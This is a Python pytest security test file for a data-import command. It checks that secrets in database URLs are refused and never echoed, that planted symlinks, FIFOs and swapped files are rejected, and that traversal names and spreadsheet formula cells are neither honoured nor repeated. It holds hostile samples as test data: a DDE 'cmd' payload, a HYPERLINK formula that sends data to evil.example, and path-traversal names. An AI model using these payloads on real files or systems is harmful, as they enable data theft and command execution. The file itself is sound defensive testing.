"""``datalab dataset import`` played against: planted files, hostile names and cells, secrets.

The adversaries are a careless operator (a password in the URL), whoever can write the
directory a register is delivered to (symlinks, hard links, FIFOs, a file swapped during the
import), and the register's own content (formula cells, hostile column names, malformed rows
late in the file). Each attempt gets a clear 中文/English error that repeats neither the
secret nor the cell, and leaves no version, draft or scratch file behind (properties 1, 9, 10).
"""

from __future__ import annotations

import logging
import os
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import psycopg
import pytest

from lab import cli
from lab.errors import ConfigError, LabError
from lab.ingest import DirStore, frames, import_source, manifests, sources
from lab.ingest import cli as ingest_cli
from lab.settings import Settings
from tests.unit import login_support
from tests.unit.ingest_support import Audit, Operators, settings_fixture, store_fixture  # noqa: F401  (fixtures)
from tests.unit.ingest_support import rows as _rows
from tests.unit.ingest_support import write_csv as _csv

pytestmark = [pytest.mark.unit, pytest.mark.security]

SECRET = "Tr0ub4dor-S3cret"
USER = "mallory_admin"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1-1"]


def nothing_left(settings: Settings, store: DirStore) -> bool:
    """No object in the store, no scratch file, no draft."""
    scratch = list(settings.work_dir.glob("import-*")) if settings.work_dir.exists() else []
    drafts = settings.home / "imports"
    left = [p for p in drafts.rglob("*") if p.name != ".lock"] if drafts.exists() else []
    return store.keys("") == [] and scratch == [] and left == []


@pytest.fixture
def run(settings: Settings, store: DirStore, monkeypatch: pytest.MonkeyPatch, capsys: Any) -> Any:
    """``datalab ARGV`` on the test's store; (exit code, stdout + stderr, the audit records)."""
    audit = Audit()
    monkeypatch.setenv("DATALAB_HOME", str(settings.home))
    monkeypatch.setattr(ingest_cli, "store_and_audit", lambda s: (store, audit))
    monkeypatch.setattr("lab.directory.Directory", Operators)  # the login is checked in Keycloak
    login_support.keys(monkeypatch)
    login_support.log_in(settings, "op.wang")

    def datalab(*argv: str) -> tuple[int, str, Audit]:
        code = cli.main(list(argv))
        out = capsys.readouterr()
        return code, out.out + out.err, audit

    return datalab


# --- secrets ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        f"postgresql://{USER}:{SECRET}@db.internal/registers?table=people",
        f"postgresql+psycopg://{USER}:{SECRET}@/registers?host=/run/postgresql&table=people",
        f"postgres://{USER}@/registers?password={SECRET}&table=people",
    ],
)
def test_a_password_in_the_url_is_refused_and_never_repeated(
    url: str, settings: Settings, store: DirStore, run: Any, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    code, output, audit = run("dataset", "import", url, "--name", "people", "--as", "op.wang")
    assert code == 1 and "PGPASSWORD" in output and "密码" in output
    assert SECRET not in output and USER not in output and SECRET not in caplog.text
    assert audit.records == [] and nothing_left(settings, store)
    with pytest.raises(ConfigError) as error:  # the library refuses it too, not just the command
        import_source(settings, store, url, name="people", actor="op.wang")
    assert error.value.reason == "secret-in-argv"
    assert SECRET not in f"{error.value.message} {error.value.detail}"


def test_driver_errors_do_not_name_the_user(
    settings: Settings, store: DirStore, postgres_server: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The server's own message names the role; the import's error does not."""
    monkeypatch.setenv("PGPASSWORD", SECRET)  # where the password belongs: not in any message
    socket = f"host={postgres_server.socket_dir}&port={postgres_server.port}"
    url = f"postgresql://{USER}@/postgres?{socket}&table=people"
    with pytest.raises(ConfigError) as error:
        import_source(settings, store, url, name="people", actor="op.wang")
    text = f"{error.value.message} {error.value.detail}"
    assert error.value.reason == "unreachable" and "无法连接" in text
    assert USER not in text and SECRET not in text and "***" in text
    assert error.value.__cause__ is None and error.value.__suppress_context__
    nowhere = f"postgresql://{USER}@/postgres?host=/nonexistent&table=people"
    with pytest.raises(ConfigError) as error:
        import_source(settings, store, nowhere, name="people", actor="op.wang")
    assert USER not in str(error.value)
    assert nothing_left(settings, store)


def test_what_is_recorded_names_no_user_or_secret(
    settings: Settings, store: DirStore, postgres_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = postgres_url.replace("postgresql+psycopg://", "postgresql://", 1)
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute("CREATE TABLE t (district text, age integer); INSERT INTO t VALUES ('张店区', 40)")
    monkeypatch.setenv("PGPASSWORD", SECRET)
    audit = Audit()
    import_source(settings, store, f"{url}&table=t", name="t", actor="op.wang", audit=audit)
    recorded = repr(audit.records) + repr(manifests(store, "t"))
    recorded += "".join(store.get_bytes(k).decode("utf-8", "replace") for k in store.keys("") if "json" in k)  # type: ignore[union-attr]
    assert SECRET not in recorded and "postgres@" not in recorded and "table=t" in recorded


# --- planted files ----------------------------------------------------------------------------


def test_symlinks_hard_links_fifos_and_directories_are_refused(
    settings: Settings, store: DirStore, tmp_path: Path
) -> None:
    secret = tmp_path / "other-org" / "raw.csv"
    secret.parent.mkdir()
    _csv(secret, _rows(5))
    drop = tmp_path / "drop"
    drop.mkdir()
    (drop / "register.csv").symlink_to(secret)
    os.link(secret, drop / "linked.csv")
    os.mkfifo(drop / "pipe.csv")  # reading it would never end
    (drop / "folder.csv").mkdir()
    for planted, why in [
        ("register.csv", "symbolic link"),
        ("linked.csv", "hard links"),
        ("pipe.csv", "not a regular file"),
        ("folder.csv", "not a regular file"),
    ]:
        with pytest.raises(ConfigError, match=why) as error:
            import_source(settings, store, str(drop / planted), name="planted", actor="op.wang")
        assert error.value.reason == "bad-source"
    (drop / "linked.csv").unlink()
    # A traversal through '..' reaches only what the operator could name anyway; the name
    # recorded is the file's own, never the path.
    done = import_source(settings, store, str(drop / ".." / "other-org" / "raw.csv"), name="x", actor="o")
    assert manifests(store, "x")[0]["source"] == "raw.csv" and done.rows == 5


def test_a_file_swapped_during_the_import_is_not_published(
    settings: Settings, store: DirStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _csv(tmp_path / "register.csv", _rows(50))
    secret = _csv(tmp_path / "secret.csv", _rows(50, seed=9))
    real = sources._csv

    def swapping(p: Path, encoding: str) -> Any:
        for i, frame in enumerate(real(p, encoding)):
            if i == 0:  # the attacker replaces the file by a link once the checks are past
                path.unlink()
                path.symlink_to(secret)
            yield frame

    monkeypatch.setattr(sources, "_csv", swapping)
    with pytest.raises(ConfigError, match="changed while it was imported") as error:
        import_source(settings, store, str(path), name="swap", actor="op.wang")
    assert error.value.reason == "changed" and nothing_left(settings, store)


# --- hostile names and cells ------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["../../x", "/etc/cron.d/x", "a/b", "..", ".hidden", "x\x00y", "x\u202ey", "Population", "a" * 300],
)
def test_hostile_dataset_names(name: str, settings: Settings, store: DirStore, tmp_path: Path) -> None:
    path = _csv(tmp_path / "a.csv", _rows(5))
    with pytest.raises(LabError) as error:
        import_source(settings, store, str(path), name=name, actor="op.wang")
    assert "--name" in error.value.message and name not in error.value.message
    assert nothing_left(settings, store) and not (tmp_path / "x").exists()


def test_formula_cells_are_never_repeated_in_errors_or_output(
    settings: Settings, store: DirStore, tmp_path: Path, run: Any
) -> None:
    rows = "\n".join(f'{i},"{f.replace(chr(34), chr(34) * 2)}"' for i, f in enumerate(FORMULAS))
    bad = tmp_path / "bad.csv"
    bad.write_text(f"id,note\n{rows}\n9,{FORMULAS[1]},extra\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"bad\.csv:6: malformed CSV row") as error:
        import_source(settings, store, str(bad), name="bad", actor="op.wang")
    assert not any(f in error.value.detail for f in FORMULAS) and "calc" not in error.value.detail
    header = tmp_path / "header.csv"
    header.write_text(f'id,"{FORMULAS[1]}"\n1,2\n', encoding="utf-8")
    with pytest.raises(ConfigError, match="column 2 has a name") as error:
        import_source(settings, store, str(header), name="header", actor="op.wang")
    assert "calc" not in error.value.detail
    assert nothing_left(settings, store)
    # A good file with formula cells is imported as data, as text, and nothing echoes it.
    good = tmp_path / "good.csv"
    good.write_text(f"id,note\n{rows}\n", encoding="utf-8")
    code, output, _ = run("dataset", "import", str(good), "--name", "good", "--as", "op.wang")
    assert code == 0 and not any(f in output for f in FORMULAS) and "calc" not in output
    draft = next((settings.home / "imports" / "good").glob("*.yaml")).read_text(encoding="utf-8")
    assert "calc" not in draft and "HYPERLINK" not in draft


def test_a_malformed_row_late_in_a_big_file_leaves_nothing(
    settings: Settings, store: DirStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Row groups were already written to scratch when the bad row came: all of it goes."""
    monkeypatch.setattr(frames, "ROW_GROUP", 100)
    path = _csv(tmp_path / "late.csv", _rows(3000))
    with path.open("a", encoding="utf-8") as handle:
        handle.write("1,\"=cmd|' /C calc'!A0\n")  # a quote never closed, on line 3002
    with pytest.raises(ConfigError, match=r"late\.csv:3002: .*quoted field.*引号") as error:
        import_source(settings, store, str(path), name="late", actor="op.wang")
    assert "calc" not in error.value.detail and nothing_left(settings, store)


def test_malformed_excel_files(
    settings: Settings, store: DirStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    truncated = tmp_path / "cut.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["id", "note"])  # type: ignore[union-attr]
    book.save(truncated)
    truncated.write_bytes(truncated.read_bytes()[:300])
    not_a_book = tmp_path / "other.xlsx"
    with zipfile.ZipFile(not_a_book, "w") as archive:
        archive.writestr("../../evil.txt", "a zip with a traversal name, not a workbook")
    for path in (truncated, not_a_book):
        with pytest.raises(ConfigError, match="not a readable Excel") as error:
            import_source(settings, store, str(path), name="book", actor="op.wang")
        assert error.value.reason == "unreadable" and "无法读取" in error.value.message
    assert not (tmp_path.parent / "evil.txt").exists() and not Path("evil.txt").exists()
    monkeypatch.setattr(sources, "BATCH_ROWS", 10)
    monkeypatch.setattr(frames, "ROW_GROUP", 10)
    wide = tmp_path / "wide.xlsx"
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append(["id", "note"])
    for i in range(60):
        sheet.append([i, "ok"] + (["calc /C evil"] if i == 45 else []))
    book.save(wide)
    with pytest.raises(ConfigError, match=r"wide\.xlsx:47: row 47 has values beyond the 2") as error:
        import_source(settings, store, str(wide), name="wide", actor="op.wang")
    assert "calc" not in error.value.detail and "第 47 行" in error.value.message
    headless = tmp_path / "headless.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["id", None, "note"])  # type: ignore[union-attr]
    book.save(headless)
    with pytest.raises(ConfigError, match="first row must name every column"):
        import_source(settings, store, str(headless), name="headless", actor="op.wang")
    assert nothing_left(settings, store)


def test_a_failed_upload_leaves_no_version(settings: Settings, store: DirStore, tmp_path: Path) -> None:
    """The store fails while the version is written: what was put is taken back."""

    class Failing(DirStore):
        def put_bytes(self, key: str, data: bytes) -> None:
            if key.endswith("manifest.json"):
                raise OSError("disk full")
            super().put_bytes(key, data)

    failing = Failing(store.root)
    path = _csv(tmp_path / "a.csv", _rows(20))
    with pytest.raises(OSError, match="disk full"):
        import_source(settings, failing, str(path), name="people", actor="op.wang")
    assert store.keys("") == [] and manifests(store, "people") == []
    assert import_source(settings, store, str(path), name="people", actor="op.wang").version == 1


def test_store_keys_cannot_leave_the_store(tmp_path: Path) -> None:
    store = DirStore(tmp_path / "raw")
    for key in ("../outside.json", "a/../../outside.json", "/etc/passwd"):
        with pytest.raises(ValueError, match="outside the store"):
            store.put_bytes(key, b"{}")
    assert not (tmp_path / "outside.json").exists()
